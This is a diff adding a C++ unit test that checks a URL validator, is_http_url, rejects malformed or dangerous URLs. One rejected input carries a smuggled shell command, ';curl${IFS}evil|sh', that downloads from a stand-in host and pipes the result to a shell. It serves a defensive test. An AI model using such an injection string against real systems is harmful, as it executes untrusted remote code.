@@ -18,5 +18,18 @@ TEST(Url, HttpAndHttpsWithAHostOnly) {
   EXPECT_FALSE(is_http_url(""));
 }
 
+TEST(Url, OnlyWhatEveryParserReadsTheSameWay) {
+  EXPECT_TRUE(is_http_url("https://x.example/a%20b.tar.zst?v=1&w=[2]"));
+  EXPECT_FALSE(is_http_url("https://x/a.tar.gz;curl${IFS}evil|sh"));
+  EXPECT_FALSE(is_http_url("https://x/a.tar.gz#frag"));
+  EXPECT_FALSE(is_http_url("https://user:pw@x/a"));
+  EXPECT_FALSE(is_http_url("https://x/a<b>"));
+  EXPECT_FALSE(is_http_url("https://x/a\\b"));
+  EXPECT_FALSE(is_http_url("https:///a.tar.gz"));
+  EXPECT_FALSE(is_http_url("https://x/a%2"));
+  EXPECT_FALSE(is_http_url("https://x/a%zz"));
+  EXPECT_FALSE(is_http_url("https://x/\xc3\xa9"));
+}
+
 }  // namespace
 }  // namespace snr::net
